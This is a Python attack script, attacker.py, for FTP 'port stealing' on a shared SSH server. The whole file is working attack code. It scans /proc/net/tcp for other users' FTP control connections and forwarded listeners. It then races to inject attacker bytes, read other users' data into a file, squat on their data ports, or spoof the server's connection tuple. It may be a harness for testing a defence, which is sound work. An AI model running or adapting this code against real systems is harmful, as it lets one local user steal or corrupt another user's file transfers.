#!/usr/bin/env python3
"""Another account on the SSH server racing for our data port (RFC 2577's "port stealing").

    attacker.py MODE FTP_PORT SIZE OUT SECONDS

It reads the socket table as any user may, finds every control connection to FTP_PORT (an
ESTABLISHED row whose peer port is FTP_PORT, local port L) and every listener on the same
address at L-1 or L (sshd's reverse forward, where the FTP server will connect back), and
connects to each as fast as it can until SECONDS have passed or OUT.stop exists:

- hold:  sends SIZE bytes of its own (b"EVIL" repeated) and keeps the connection open;
- close: sends them and closes at once (its socket then belongs to no process);
- steal: reads whatever comes, appended to OUT;
- squat: listens itself on L-1 and L of each control connection's address, before sshd's
  reverse forward is checked (sshd under `GatewayPorts no` binds loopback, not that address),
  and reads whatever connects there, appended to OUT.
- tuple: as close, but from the FTP server's own data port (FTP_PORT-1, ProFTPD's L-1, bound with
  SO_REUSEADDR as any user may where no socket listens there) on the forward's address: the very
  4-tuple the server's data connection will have; it resets the connection after sending, which
  frees that 4-tuple at once for the server's own.

A MODE ending in "-far" runs on the FTP server's host instead, another host than the SSH
server's: there the control connection's row has FTP_PORT as its local port and the SSH
server's address and P as its peer, and it connects to P-1 there (no listener to see).

Prints "ready" once running, and at the end one line: CONNECTIONS BYTES-STOLEN.
"""
import os
import socket
import struct
import sys
import time

mode, ftp_port, size, out, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], float(sys.argv[5])
far = mode.endswith("-far")
mode = mode.removesuffix("-far")
payload = (b"EVIL" * (size // 4 + 1))[:size]


def addr_of(hexaddr):
    raw = bytes.fromhex(hexaddr)
    if len(raw) == 4:
        return socket.inet_ntop(socket.AF_INET, raw[::-1])
    words = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
    return socket.inet_ntop(socket.AF_INET6, words)


def rows():
    """Every row of the socket table, split: any user may read it."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        yield from (line.split() for line in lines)


def controls():
    """(address, port) of our victims' control connections to the FTP port."""
    found = set()
    for f in rows():
        (la, lp), (_, rp) = f[1].split(":"), f[2].split(":")
        if f[3] == "01" and int(rp, 16) == ftp_port:
            found.add((addr_of(la), int(lp, 16)))
    return found


def targets():
    """(address, port) of every listener next to a control connection to the FTP port; far from
    it, P-1 of every control connection that reached the FTP port here."""
    if far:
        peers = set()
        for f in rows():
            (_, lp), (ra, rp) = f[1].split(":"), f[2].split(":")
            if f[3] == "01" and int(lp, 16) == ftp_port:
                peers.add((addr_of(ra), int(rp, 16) - 1))
        return sorted(peers)
    near = {(a, p - d) for a, p in controls() for d in (0, 1)}
    listening = {(addr_of(f[1].split(":")[0]), int(f[1].split(":")[1], 16)) for f in rows() if f[3] == "0A"}
    return [t for t in listening if t in near]


def squat():
    """Listen next to every control connection; take what comes."""
    listeners, tried, made, stolen = [], set(), 0, 0
    while time.monotonic() < deadline and not os.path.exists(out + ".stop"):
        for addr, port in controls():
            for p in (port - 1, port):
                if (addr, p) in tried:
                    continue
                tried.add((addr, p))
                s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_STREAM)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                try:
                    s.bind((addr, p))
                    s.listen(8)
                    s.setblocking(False)
                    listeners.append(s)
                except OSError:
                    s.close()
        for s in listeners:
            try:
                c, _ = s.accept()
            except OSError:
                continue
            made += 1
            c.settimeout(2)
            with open(out, "ab") as f:
                try:
                    while chunk := c.recv(65536):
                        f.write(chunk)
                        stolen += len(chunk)
                except OSError:
                    pass
            c.close()
    return made, stolen


held, made, stolen = [], 0, 0
deadline = time.monotonic() + seconds
print("ready", flush=True)
if mode == "squat":
    made, stolen = squat()
while mode != "squat" and time.monotonic() < deadline and not os.path.exists(out + ".stop"):
    for addr, port in targets():
        family = socket.AF_INET6 if ":" in addr else socket.AF_INET
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(0.5)
        try:
            if mode == "tuple":
                s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                s.bind((addr, ftp_port - 1))
            s.connect((addr, port))
        except OSError:
            s.close()
            continue
        made += 1
        try:
            if mode == "steal":
                with open(out, "ab") as f:
                    while True:
                        chunk = s.recv(65536)
                        if not chunk:
                            break
                        f.write(chunk)
                        stolen += len(chunk)
                s.close()
            else:
                s.sendall(payload)
                if mode == "hold":
                    held.append(s)
                    if len(held) > 100:
                        held.pop(0).close()
                elif mode == "tuple":
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    s.close()
                else:
                    s.close()
        except OSError:
            s.close()
print(made, stolen, flush=True)
os._exit(0)
